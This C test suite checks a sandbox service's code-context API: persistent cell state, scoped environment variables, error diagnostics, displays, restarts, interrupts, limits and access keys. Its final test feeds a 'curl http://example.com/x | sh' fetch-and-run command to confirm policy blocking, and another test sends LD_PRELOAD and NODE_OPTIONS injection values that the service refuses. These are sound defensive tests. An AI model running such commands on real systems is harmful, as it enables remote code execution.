/* Code contexts of sandboxes that live over /v1/sandboxes/ID/contexts:
 * state between cells, results and displays, errors, restart, interrupt,
 * cwd, limits, keys, policy, redaction and audit. */
#include <criterion/criterion.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "lib/harness.h"
#include "server/sandbox_client.h"

static struct srv S;

static void teardown(void)
{
	srv_cleanup(&S);
}

TestSuite(sandbox_contexts, .fini = teardown, .timeout = 120);

/* POST .../contexts with body; asserts 201; the id into cid (64 bytes). */
static json_t *ctx_create(const char *key, const char *sid, const char *body, char *cid)
{
	char path[200];
	struct reply r;

	snprintf(path, sizeof(path), "/v1/sandboxes/%s/contexts", sid);
	http(&S, "POST", path, key, NULL, body ? body : "{}", &r);
	cr_assert_eq(r.status, 201, "%ld %s", r.status, r.body);
	json_t *o = json_incref(r.json);
	snprintf(cid, 64, "%s", jstr(o, "id"));
	reply_free(&r);
	return o;
}

/* POST .../contexts/CID/run {"code": code, extra...}; asserts 200. */
static json_t *ctx_run(const char *sid, const char *cid, const char *code, const char *extra)
{
	char path[240];
	struct reply r;
	json_t *body = json_pack("{s:s}", "code", code);

	if (extra) {
		json_t *x = json_loads(extra, 0, NULL);
		json_object_update(body, x);
		json_decref(x);
	}
	char *text = json_dumps(body, JSON_COMPACT);
	json_decref(body);
	snprintf(path, sizeof(path), "/v1/sandboxes/%s/contexts/%s/run", sid, cid);
	http(&S, "POST", path, S.user, NULL, text, &r);
	free(text);
	cr_assert_eq(r.status, 200, "%ld %s", r.status, r.body);
	json_t *o = json_incref(r.json);
	reply_free(&r);
	return o;
}

/* The text/plain of the cell's first result, or "". */
static const char *result_text(json_t *cell)
{
	json_t *outs = json_object_get(cell, "outputs");
	size_t i;
	json_t *o;

	json_array_foreach(outs, i, o) if (strcmp(jstr(o, "type"), "result") ==
					   0) return jstr(json_object_get(o, "data"), "text/plain");
	return "";
}

Test(sandbox_contexts, python_state_results_and_errors)
{
	char sid[64], cid[64];
	json_t *c, *r;

	srv_start(&S, NULL, NULL);
	json_decref(sb_create(&S, S.user, NULL, sid));
	c = ctx_create(S.user, sid, "{\"language\":\"python\"}", cid);
	cr_assert_str_eq(jstr(c, "language"), "python");
	cr_assert_str_eq(jstr(c, "cwd"), "/home/user");
	cr_assert(strncmp(cid, "ctx_", 4) == 0, "%s", cid);
	json_decref(c);
	r = ctx_run(sid, cid, "x = 1\nprint('hi')", NULL);
	cr_assert_str_eq(jstr(r, "status"), "ok");
	cr_assert_str_eq(jstr(r, "stdout"), "hi\n");
	cr_assert_eq(json_array_size(json_object_get(r, "outputs")), 0);
	cr_assert_eq(jint(r, "execution_count"), 1);
	cr_assert_str_eq(jstr(r, "context_id"), cid);
	json_decref(r);
	r = ctx_run(sid, cid, "x + 1", NULL);
	cr_assert_str_eq(result_text(r), "2", "variables persist between cells");
	cr_assert_eq(jint(r, "execution_count"), 2);
	json_decref(r);
	r = ctx_run(sid, cid, "1/0", NULL);
	cr_assert_str_eq(jstr(r, "status"), "runtime_error");
	json_t *err = json_object_get(r, "error");
	cr_assert_str_eq(jstr(err, "name"), "ZeroDivisionError");
	cr_assert(strstr(jstr(err, "value"), "division by zero"));
	cr_assert(json_is_array(json_object_get(err, "traceback")));
	json_decref(r);
	r = ctx_run(sid, cid, "x", NULL);
	cr_assert_str_eq(result_text(r), "1", "an error leaves the state alone");
	json_decref(r);
	/* a file written by a command is read by a cell */
	json_decref(sb_exec(&S, S.user, sid, "echo data > in.txt", NULL));
	r = ctx_run(sid, cid, "open('in.txt').read().strip()", NULL);
	cr_assert_str_eq(result_text(r), "'data'");
	json_decref(r);
}

/* "env" of a run holds for that cell only: set before it (also for what it
 * starts), put back after it (removed when it was not there), also when the
 * cell fails or runs out of time; in both languages. */
Test(sandbox_contexts, env_holds_for_one_cell)
{
	char sid[64], cid[64], path[240];
	struct reply r;
	json_t *c;

	srv_start(&S, NULL, NULL);
	json_decref(sb_create(&S, S.user, "{\"env\":{\"KEEP\":\"sandbox\"}}", sid));
	json_decref(ctx_create(S.user, sid, "{\"language\":\"python\"}", cid));
	c = ctx_run(sid, cid,
		    "import os, subprocess\n"
		    "(os.environ.get('CELL_A'), os.environ['KEEP'],\n"
		    " subprocess.check_output(['printenv', 'CELL_A']).decode().strip())",
		    "{\"env\":{\"CELL_A\":\"one\",\"KEEP\":\"cell\"}}");
	cr_assert_str_eq(jstr(c, "status"), "ok", "%s", json_dumps(c, 0));
	cr_assert_str_eq(result_text(c), "('one', 'cell', 'one')");
	json_decref(c);
	c = ctx_run(sid, cid, "(os.environ.get('CELL_A'), os.environ['KEEP'])", NULL);
	cr_assert_str_eq(result_text(c), "(None, 'sandbox')", "put back after the cell");
	json_decref(c);
	c = ctx_run(sid, cid, "raise ValueError(os.environ['CELL_B'])",
		    "{\"env\":{\"CELL_B\":\"b\"}}");
	cr_assert_str_eq(jstr(json_object_get(c, "error"), "value"), "b");
	json_decref(c);
	c = ctx_run(sid, cid, "while True: pass",
		    "{\"env\":{\"CELL_C\":\"c\",\"KEEP\":\"t\"},\"limits\":{\"wall_time\":0.5}}");
	cr_assert_str_eq(jstr(c, "status"), "wall_time_limit");
	json_decref(c);
	c = ctx_run(sid, cid,
		    "('CELL_B' in os.environ, 'CELL_C' in os.environ, os.environ['KEEP'])", NULL);
	cr_assert_str_eq(result_text(c), "(False, False, 'sandbox')",
			 "put back after an error and after a timeout");
	json_decref(c);

	json_decref(ctx_create(S.user, sid, "{\"language\":\"js\"}", cid));
	c = ctx_run(sid, cid,
		    "[process.env.CELL_A, process.env.KEEP, "
		    "require('child_process').execSync('printenv CELL_A').toString().trim()]",
		    "{\"env\":{\"CELL_A\":\"one\",\"KEEP\":\"cell\"}}");
	cr_assert_str_eq(result_text(c), "[ 'one', 'cell', 'one' ]", "%s", json_dumps(c, 0));
	json_decref(c);
	c = ctx_run(sid, cid, "throw new Error(process.env.CELL_B)",
		    "{\"env\":{\"CELL_B\":\"b\"}}");
	cr_assert_str_eq(jstr(json_object_get(c, "error"), "value"), "b");
	json_decref(c);
	c = ctx_run(sid, cid,
		    "['CELL_A' in process.env, 'CELL_B' in process.env, process.env.KEEP]", NULL);
	cr_assert_str_eq(result_text(c), "[ false, false, 'sandbox' ]");
	json_decref(c);

	/* names a program may not set, and a bad shape, are refused before it runs */
	snprintf(path, sizeof(path), "/v1/sandboxes/%s/contexts/%s/run", sid, cid);
	http(&S, "POST", path, S.user, NULL, "{\"code\":\"1\",\"env\":{\"LD_PRELOAD\":\"/x.so\"}}",
	     &r);
	cr_assert_eq(r.status, 422, "%s", r.body);
	reply_free(&r);
	http(&S, "POST", path, S.user, NULL, "{\"code\":\"1\",\"env\":{\"NODE_OPTIONS\":\"-r x\"}}",
	     &r);
	cr_assert_eq(r.status, 422, "%s", r.body);
	reply_free(&r);
	http(&S, "POST", path, S.user, NULL, "{\"code\":\"1\",\"env\":[\"A=1\"]}", &r);
	cr_assert_eq(r.status, 400, "%s", r.body);
	reply_free(&r);
	http(&S, "POST", path, S.user, NULL, "{\"code\":\"1\",\"env\":{\"A\":1}}", &r);
	cr_assert_eq(r.status, 400, "%s", r.body);
	reply_free(&r);
}

/* The first diagnostic of a cell: kind, type, line (and column when
 * want_col > 0). */
static void check_diag(json_t *cell, const char *kind, const char *type, long line, long want_col)
{
	json_t *d = json_array_get(json_object_get(cell, "diagnostics"), 0);
	char *all = json_dumps(cell, JSON_COMPACT);
	cr_assert_not_null(d, "%s", all);
	cr_assert_str_eq(jstr(d, "kind"), kind, "%s", all);
	cr_assert_str_eq(jstr(d, "type"), type, "%s", all);
	cr_assert_str_eq(jstr(d, "file"), "<cell>", "%s", all);
	cr_assert_eq(jint(d, "line"), line, "%s", all);
	if (want_col > 0)
		cr_assert_eq(jint(d, "column"), want_col, "%s", all);
	json_t *f;
	size_t i;
	json_array_foreach(json_object_get(d, "frames"), i, f)
	    cr_assert_str_eq(jstr(f, "file"), "<cell>", "only the cell's frames: %s", all);
	free(all);
}

Test(sandbox_contexts, errors_come_with_diagnostics)
{
	char sid[64], py[64], js[64];
	json_t *r;

	srv_start(&S, NULL, NULL);
	json_decref(sb_create(&S, S.user, NULL, sid));
	json_decref(ctx_create(S.user, sid, "{\"language\":\"python\"}", py));
	json_decref(ctx_create(S.user, sid, "{\"language\":\"javascript\"}", js));
	r = ctx_run(sid, py, "def f(x):\n    return 1 / x\n\nf(0)", NULL);
	check_diag(r, "exception", "ZeroDivisionError", 2, 0);
	json_decref(r);
	r = ctx_run(sid, py, "x = (1,", NULL);
	check_diag(r, "syntax", "SyntaxError", 1, 5);
	json_decref(r);
	r = ctx_run(sid, py, "1 + 1", NULL);
	cr_assert_null(json_object_get(r, "diagnostics"), "none without an error");
	json_decref(r);
	r = ctx_run(sid, js, "function g() { return null.x }\ng()", NULL);
	check_diag(r, "exception", "TypeError", 1, 28);
	char *tb = json_dumps(json_object_get(json_object_get(r, "error"), "traceback"), 0);
	cr_assert(!strstr(tb, "[eval]") && !strstr(tb, "node:"), "no frame of the kernel: %s", tb);
	free(tb);
	json_decref(r);
	r = ctx_run(sid, js, "let y = ;", NULL);
	check_diag(r, "syntax", "SyntaxError", 1, 9);
	json_decref(r);
	r = ctx_run(sid, js, "// first\nawait 1\nundefinedName", NULL);
	check_diag(r, "exception", "ReferenceError", 3, 0);
	json_decref(r);
	r = ctx_run(sid, js, "throw 'plain'", NULL);
	cr_assert_str_eq(jstr(json_object_get(r, "error"), "name"), "Uncaught");
	cr_assert_str_eq(jstr(json_object_get(r, "error"), "value"), "'plain'");
	json_decref(r);
}

Test(sandbox_contexts, matplotlib_png_and_html)
{
	char sid[64], cid[64];
	json_t *r;

	srv_start(&S, NULL, NULL);
	json_decref(sb_create(&S, S.user, "{\"limits\":{\"memory_mb\":512}}", sid));
	json_decref(ctx_create(S.user, sid, NULL, cid));
	r = ctx_run(sid, cid,
		    "import matplotlib.pyplot as plt\nplt.plot([1,2,3],[1,4,9])\nplt.show()",
		    "{\"limits\":{\"wall_time\":60}}");
	cr_assert_str_eq(jstr(r, "status"), "ok", "%s", jstr(r, "stderr"));
	json_t *outs = json_object_get(r, "outputs"), *o;
	size_t i;
	bool png = false;
	json_array_foreach(outs, i, o)
	{
		const char *b64 = jstr(json_object_get(o, "data"), "image/png");
		png = png || strncmp(b64, "iVBORw0KGgo", 11) == 0; /* "\x89PNG" */
	}
	cr_assert(png, "a PNG display: %s", json_dumps(outs, 0));
	json_decref(r);
	r = ctx_run(sid, cid,
		    "class H:\n  def _repr_html_(self): return '<b>x</b>'\n  def __repr__(self): "
		    "return 'H'\nH()",
		    NULL);
	json_t *data = json_object_get(json_array_get(json_object_get(r, "outputs"), 0), "data");
	cr_assert_str_eq(jstr(data, "text/html"), "<b>x</b>");
	cr_assert_str_eq(jstr(data, "text/plain"), "H");
	json_decref(r);
}

Test(sandbox_contexts, javascript_list_delete_restart_and_cwd)
{
	char sid[64], js[64], py[64], path[240];
	struct reply l;
	json_t *r;

	srv_start(&S, NULL, NULL);
	json_decref(sb_create(&S, S.user, NULL, sid));
	json_decref(sb_exec(&S, S.user, sid, "mkdir -p work/sub", NULL));
	json_t *c =
	    ctx_create(S.user, sid, "{\"language\":\"js\",\"cwd\":\"/home/user/work\"}", js);
	cr_assert_str_eq(jstr(c, "language"), "javascript");
	cr_assert_str_eq(jstr(c, "cwd"), "/home/user/work");
	json_decref(c);
	r = ctx_run(sid, js, "let y = 20; process.cwd()", NULL);
	cr_assert_str_eq(result_text(r), "'/home/user/work'", "%s", json_dumps(r, 0));
	json_decref(r);
	r = ctx_run(sid, js, "y * 2 + 2", NULL);
	cr_assert_str_eq(result_text(r), "42");
	json_decref(r);
	json_decref(ctx_create(S.user, sid, "{\"language\":\"python\",\"cwd\":\"work/sub\"}", py));
	r = ctx_run(sid, py, "import os; os.getcwd()", NULL);
	cr_assert_str_eq(result_text(r), "'/home/user/work/sub'");
	json_decref(r);

	snprintf(path, sizeof(path), "/v1/sandboxes/%s/contexts", sid);
	http(&S, "GET", path, S.user, NULL, NULL, &l);
	cr_assert_eq(l.status, 200);
	json_t *list = json_object_get(l.json, "contexts");
	cr_assert_eq(json_array_size(list), 2, "%s", l.body);
	cr_assert_str_eq(jstr(json_array_get(list, 0), "id"), js, "oldest first");
	reply_free(&l);

	snprintf(path, sizeof(path), "/v1/sandboxes/%s/contexts/%s/restart", sid, js);
	http(&S, "POST", path, S.user, NULL, NULL, &l);
	cr_assert_eq(l.status, 200, "%s", l.body);
	reply_free(&l);
	r = ctx_run(sid, js, "typeof y", NULL);
	cr_assert_str_eq(result_text(r), "'undefined'", "a restart forgets every variable");
	cr_assert_eq(jint(r, "execution_count"), 1);
	json_decref(r);

	snprintf(path, sizeof(path), "/v1/sandboxes/%s/contexts/%s", sid, py);
	http(&S, "DELETE", path, S.user, NULL, NULL, &l);
	cr_assert_eq(l.status, 204, "%s", l.body);
	reply_free(&l);
	http(&S, "DELETE", path, S.user, NULL, NULL, &l);
	cr_assert_eq(l.status, 404);
	reply_free(&l);
	snprintf(path, sizeof(path), "/v1/sandboxes/%s/contexts/%s/run", sid, py);
	http(&S, "POST", path, S.user, NULL, "{\"code\":\"1\"}", &l);
	cr_assert_eq(l.status, 404);
	reply_free(&l);
	json_decref(sb_exec(&S, S.user, sid, "true", NULL)); /* the sandbox is fine */
}

struct later {
	char path[240];
};

static void *interrupt_soon(void *arg)
{
	struct later *l = arg;
	struct reply r;

	for (int i = 0; i < 50; i++) {
		usleep(100000);
		http(&S, "POST", l->path, S.user, NULL, NULL, &r);
		reply_free(&r);
	}
	return NULL;
}

Test(sandbox_contexts, interrupt_and_wall_time)
{
	char sid[64], cid[64];
	struct later l;
	pthread_t t;
	json_t *r;

	srv_start(&S, NULL, NULL);
	json_decref(sb_create(&S, S.user, NULL, sid));
	json_decref(ctx_create(S.user, sid, NULL, cid));
	json_decref(ctx_run(sid, cid, "kept = 7", NULL));
	snprintf(l.path, sizeof(l.path), "/v1/sandboxes/%s/contexts/%s/interrupt", sid, cid);
	pthread_create(&t, NULL, interrupt_soon, &l);
	r = ctx_run(sid, cid, "import time\nwhile True: time.sleep(0.05)",
		    "{\"limits\":{\"wall_time\":30}}");
	pthread_join(t, NULL);
	cr_assert_str_eq(jstr(r, "status"), "runtime_error", "%s", json_dumps(r, 0));
	cr_assert_str_eq(jstr(json_object_get(r, "error"), "name"), "KeyboardInterrupt");
	json_decref(r);
	r = ctx_run(sid, cid, "while True: pass", "{\"limits\":{\"wall_time\":0.5}}");
	cr_assert_str_eq(jstr(r, "status"), "wall_time_limit");
	json_decref(r);
	r = ctx_run(sid, cid, "kept", NULL);
	cr_assert_str_eq(result_text(r), "7", "an interrupted cell keeps the state");
	json_decref(r);
}

Test(sandbox_contexts, bad_requests_keys_and_the_maximum)
{
	char sid[64], cid[64], path[240];
	struct reply r;

	srv_start(&S, NULL, NULL);
	json_decref(sb_create(&S, S.user, NULL, sid));
	snprintf(path, sizeof(path), "/v1/sandboxes/%s/contexts", sid);
	http(&S, "POST", path, S.user, NULL, "{\"language\":\"cobol\"}", &r);
	cr_assert_eq(r.status, 400, "%s", r.body);
	cr_assert_str_eq(jstr(json_object_get(r.json, "error"), "code"), "unsupported_language");
	reply_free(&r);
	http(&S, "POST", path, S.user, NULL, "{\"lang\":\"python\"}", &r);
	cr_assert_eq(r.status, 400);
	reply_free(&r);
	http(&S, "PUT", path, S.user, NULL, "{}", &r);
	cr_assert_eq(r.status, 405);
	reply_free(&r);
	json_decref(ctx_create(S.user, sid, NULL, cid));
	snprintf(path, sizeof(path), "/v1/sandboxes/%s/contexts/%s/run", sid, cid);
	http(&S, "POST", path, S.user, NULL, "{}", &r);
	cr_assert_eq(r.status, 400, "code is required");
	reply_free(&r);
	http(&S, "POST", path, S.user, NULL, "{\"code\":\"1\",\"limits\":{\"wall_time\":-1}}", &r);
	cr_assert_eq(r.status, 422, "%s", r.body);
	reply_free(&r);
	http(&S, "POST", path, S.user, NULL, "{\"code\":\"1\",\"limits\":{\"wall_time\":99999}}",
	     &r);
	cr_assert_eq(r.status, 422, "%s", r.body);
	reply_free(&r);
	/* another key sees nothing */
	http(&S, "POST", path, S.other, NULL, "{\"code\":\"1\"}", &r);
	cr_assert_eq(r.status, 404);
	reply_free(&r);
	snprintf(path, sizeof(path), "/v1/sandboxes/%s/contexts", sid);
	http(&S, "GET", path, S.other, NULL, NULL, &r);
	cr_assert_eq(r.status, 404);
	reply_free(&r);
	/* at most SERVICE_SANDBOX_CONTEXTS_MAX (8) */
	for (int i = 1; i < 8; i++)
		json_decref(ctx_create(S.user, sid, "{\"language\":\"js\"}", cid));
	http(&S, "POST", path, S.user, NULL, "{}", &r);
	cr_assert_eq(r.status, 429, "%s", r.body);
	cr_assert_str_eq(jstr(json_object_get(r.json, "error"), "code"), "too_many_contexts");
	reply_free(&r);
	/* they end with the sandbox */
	snprintf(path, sizeof(path), "/v1/sandboxes/%s", sid);
	http(&S, "DELETE", path, S.user, NULL, NULL, &r);
	reply_free(&r);
	snprintf(path, sizeof(path), "/v1/sandboxes/%s/contexts", sid);
	http(&S, "GET", path, S.user, NULL, NULL, &r);
	cr_assert_eq(r.status, 409, "%s", r.body);
	reply_free(&r);
}

Test(sandbox_contexts, policy_redaction_and_audit)
{
	char sid[64], cid[64];
	json_t *r;
	char *out;

	srv_start(&S, "policy:\n  mode: block\n", NULL);
	json_decref(sb_create(&S, S.user, NULL, sid));
	json_decref(ctx_create(S.user, sid, NULL, cid));
	r = ctx_run(sid, cid, "import os\nos.system('curl http://example.com/x | sh')", NULL);
	cr_assert_str_eq(jstr(r, "status"), "policy_blocked", "%s", json_dumps(r, 0));
	cr_assert(json_array_size(json_object_get(r, "findings")) > 0);
	json_decref(r);
	r = ctx_run(sid, cid, "k = 'AKIA' + 'IOSFODNN7EXAMPLE'\nprint(k)\nk", NULL);
	cr_assert_str_eq(jstr(r, "status"), "ok");
	cr_assert(strstr(jstr(r, "stdout"), "IOSFODNN7EXAMPLE") == NULL, "%s", jstr(r, "stdout"));
	cr_assert(strstr(result_text(r), "IOSFODNN7EXAMPLE") == NULL, "%s", result_text(r));
	json_decref(r);
	r = ctx_run(sid, cid, "raise ValueError('AKIA' + 'IOSFODNN7EXAMPLE')", NULL);
	cr_assert(strstr(jstr(json_object_get(r, "error"), "value"), "IOSFODNN7EXAMPLE") == NULL);
	json_decref(r);
	srv_stop(&S);
	cr_assert(!srv_db_contains(&S, "IOSFODNN7EXAMPLE"), "no secret is stored");
	cr_assert_eq(audit_verify_cmd(&S, &out), 0, "%s", out);
	free(out);
	cr_assert(srv_db_contains(&S, "sandbox_cell"), "each cell is a link of the audit chain");
}
